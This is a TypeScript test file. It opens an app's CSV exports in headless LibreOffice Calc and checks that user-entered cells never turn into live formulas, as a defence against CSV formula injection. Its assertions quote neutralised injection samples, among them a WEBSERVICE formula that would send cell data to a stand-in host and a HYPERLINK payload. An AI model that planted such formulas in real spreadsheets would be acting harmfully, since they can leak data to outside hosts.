import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { readAsWritten } from '@civic/shared/testing/csv-check';
import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostileInitiative, recordHostileCells } from './export-fixtures.ts';
import { startTestApp, type TestApp, tempDir } from './test-app.ts';
import { findSoffice } from './test-projects.ts';

// What LibreOffice Calc does with our CSV files, measured: each export is opened by `soffice --headless` with the
// CSV import filter (UTF-8, the separator it was written with, and the other one) and saved as flat ODS, whose XML
// says of every cell whether it became a formula and what text it holds. CI installs LibreOffice (.ci/run).

// Without soffice the file is not collected, except on CI, where it fails (test/test-projects.ts).
const soffice = findSoffice();
const run = promisify(execFile);

interface LoCell {
  formula: string | null;
  type: string | null;
  text: string;
}

type XmlNode = Record<string, unknown> & { ':@'?: Record<string, string> };

const children = (node: XmlNode, name: string): XmlNode[] =>
  (node[name] as XmlNode[] | undefined)?.filter((child) => typeof child === 'object') ?? [];

/** The text of a run of ODF paragraph content: spaces, tabs and line breaks as their characters. */
function inlineText(nodes: XmlNode[]): string {
  return nodes
    .map((node) => {
      if ('#text' in node) return String(node['#text']);
      if ('text:s' in node) return ' '.repeat(Number(node[':@']?.['@_text:c'] ?? 1));
      if ('text:tab' in node) return '\t';
      if ('text:line-break' in node) return '\n';
      const [name] = Object.keys(node).filter((key) => key !== ':@');
      return name ? inlineText(children(node, name)) : '';
    })
    .join('');
}

function findAll(nodes: XmlNode[], name: string): XmlNode[] {
  return nodes.flatMap((node) =>
    Object.keys(node)
      .filter((key) => key !== ':@' && key !== '#text')
      .flatMap((key) => (key === name ? [node] : findAll(children(node, key), name))),
  );
}

/** The first sheet of a flat ODS file as rows of cells, repeated cells expanded, paragraphs joined by LF. */
function readFods(file: string): LoCell[][] {
  const parser = new XMLParser({ ignoreAttributes: false, preserveOrder: true, trimValues: false });
  const doc = parser.parse(fs.readFileSync(file, 'utf8')) as XmlNode[];
  const [sheet] = findAll(doc, 'table:table');
  if (!sheet) throw new Error(`no sheet in ${file}`);
  return children(sheet, 'table:table').flatMap((rowNode) => {
    if (!('table:table-row' in rowNode)) return [];
    const cells = children(rowNode, 'table:table-row')
      .filter((cell) => 'table:table-cell' in cell)
      .flatMap((cell) => {
        const attrs = cell[':@'] ?? {};
        const text = children(cell, 'table:table-cell')
          .filter((p) => 'text:p' in p)
          .map((p) => inlineText(children(p, 'text:p')))
          .join('\n');
        const one: LoCell = {
          formula: attrs['@_table:formula'] ?? null,
          type: attrs['@_office:value-type'] ?? null,
          text,
        };
        return Array.from({ length: Math.min(Number(attrs['@_table:number-columns-repeated'] ?? 1), 64) }, () => one);
      });
    while (cells.length > 0 && cells.at(-1)?.type === null && cells.at(-1)?.text === '') cells.pop();
    return cells.length > 0 ? [cells] : [];
  });
}

/** Opens every file with LibreOffice's CSV filter (UTF-8, `sep`) and saves each as flat ODS next to the others. */
async function convert(files: string[], sep: ',' | ';', outDir: string, profile: string): Promise<void> {
  const filter = `CSV:${sep.charCodeAt(0)},34,76,1`;
  await run(
    soffice ?? 'soffice',
    [
      `-env:UserInstallation=${pathToFileURL(profile).href}`,
      '--headless',
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      outDir,
      ...files,
    ],
    { timeout: 180_000 },
  );
}

const lines = (text: string) => text.replace(/\r\n|\r|\n/g, '\n');

describe(`CSV exports opened in LibreOffice Calc (${soffice ?? 'soffice not found'})`, () => {
  let app: TestApp;
  const dir = tempDir('civic-lo-');
  const out = path.join(dir, 'out');
  const exports = {
    'history-comma': `/api/export/history.csv?initiative=${hostileInitiative.id}`,
    'history-semicolon': `/api/export/history.csv?initiative=${hostileInitiative.id}&sep=%3B`,
    'initiatives-ru-comma': '/api/export/initiatives.csv?owner=senate',
    'initiatives-en-semicolon': '/api/export/initiatives.csv?owner=senate&lang=en&sep=%3B',
  } as const;
  type Name = keyof typeof exports;
  const sepOf = (name: string): ',' | ';' => (name.endsWith('semicolon') ? ';' : ',');
  const csvPath = (name: string, readWith: string) => path.join(dir, `${name}.read-with-${readWith}.csv`);
  const odsCells = (name: string, readWith: string) => readFods(path.join(out, `${name}.read-with-${readWith}.fods`));

  beforeAll(async () => {
    if (!soffice) throw new Error('LibreOffice (soffice) not found; CI must install libreoffice-calc-nogui (.ci/run)');
    app = await startTestApp();
    await recordHostileCells(app);
    const byReadingSep: Record<'comma' | 'semicolon', string[]> = { comma: [], semicolon: [] };
    for (const [name, url] of Object.entries(exports)) {
      const bytes = Buffer.from(await (await app.fetch(url)).arrayBuffer());
      for (const readWith of ['comma', 'semicolon'] as const) {
        fs.writeFileSync(csvPath(name, readWith), bytes);
        byReadingSep[readWith].push(csvPath(name, readWith));
      }
    }
    // A control the product never writes: an unneutralised formula, to show the check sees formulas at all.
    fs.writeFileSync(csvPath('control', 'comma'), '\uFEFFid,note\r\nc1,=1+2\r\n');
    byReadingSep.comma.push(csvPath('control', 'comma'));
    const profile = path.join(dir, 'profile');
    await convert(byReadingSep.comma, ',', out, profile);
    await convert(byReadingSep.semicolon, ';', out, profile);
  }, 400_000);
  afterAll(async () => {
    await app?.close();
  });

  it('when LibreOffice opens a CSV with an unneutralised =1+2, then it runs it as a formula (the check is live)', () => {
    expect(odsCells('control', 'comma')[1]?.[1]).toMatchObject({ formula: 'of:=1+2', type: 'float', text: '3' });
  });

  it.each(Object.keys(exports) as Name[])(
    'when %s is opened with its own separator, then no row splits, no cell is a formula, and every text cell is the raw cell, apostrophe shown',
    (name) => {
      const sep = sepOf(name);
      const raw = readAsWritten(fs.readFileSync(csvPath(name, sep === ',' ? 'comma' : 'semicolon'), 'utf8'), sep);
      const cells = odsCells(name, sep === ',' ? 'comma' : 'semicolon');
      expect(cells).toHaveLength(raw.length);
      expect(cells.flat().filter((cell) => cell.formula !== null)).toEqual([]);
      cells.forEach((row, r) => {
        row.forEach((cell, c) => {
          if (cell.type === 'string') expect(cell.text).toBe(lines(raw[r]?.[c] ?? ''));
        });
      });
      const texts = cells.flat().map((cell) => cell.text);
      if (name.startsWith('history')) expect(texts).toContain(lines(`Проверено на месте\n'=1+2`));
      if (name === 'initiatives-ru-comma')
        expect(texts).toEqual(expect.arrayContaining(["'＝1+2", `Заголовок\n'=HYPERLINK("http://e.x")`]));
      if (name === 'initiatives-en-semicolon')
        expect(texts).toEqual(expect.arrayContaining(['x;\'=WEBSERVICE("http://e.x/?"&A1)', "'@SUM(1)\n'-2+3"]));
    },
  );

  it.each(Object.keys(exports) as Name[])(
    'when %s is opened with the other separator, then rows and quotes fall apart but no cell is a formula',
    (name) => {
      const other = sepOf(name) === ',' ? 'semicolon' : 'comma';
      const cells = odsCells(name, other).flat();
      expect(cells.length).toBeGreaterThan(0);
      expect(cells.filter((cell) => cell.formula !== null)).toEqual([]);
    },
  );
});
